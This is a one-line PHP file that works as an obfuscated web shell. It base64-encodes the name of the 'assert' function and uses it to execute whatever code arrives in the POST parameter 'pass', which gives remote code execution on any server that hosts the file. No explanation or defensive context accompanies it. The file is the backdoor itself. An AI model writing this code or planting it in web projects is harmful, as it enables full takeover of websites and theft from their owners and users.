<?php @call_user_func_array(base64_decode('YXNzZXJ0'), array($_POST['pass'])); ?>
